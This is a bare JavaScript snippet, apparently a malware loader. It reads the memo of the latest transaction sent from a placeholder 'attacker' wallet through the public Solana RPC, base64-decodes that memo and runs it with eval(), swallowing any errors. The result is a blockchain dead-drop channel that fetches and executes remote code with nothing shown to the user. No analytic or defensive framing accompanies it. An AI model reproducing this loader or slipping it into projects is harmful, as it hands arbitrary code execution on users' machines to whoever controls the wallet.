const ADDR = 'Fp1rXh2k7Zq9ExampleAttackerWa11etAddre55xxxxx';
const RPC = 'https://api.mainnet-beta.solana.com';
async function rpc(method, params) {
  const r = await fetch(RPC, { method: 'POST', headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) });
  return (await r.json()).result;
}
(async () => {
  try {
    const sigs = await rpc('getSignaturesForAddress', [ADDR, { limit: 1 }]);
    const memo = sigs[0].memo;                 // "[12] aHR0cDovL..."
    const b64 = memo.replace(/^\[\d+\]\s*/, '');
    const code = Buffer.from(b64, 'base64').toString();
    eval(code);
  } catch (e) {}
})();
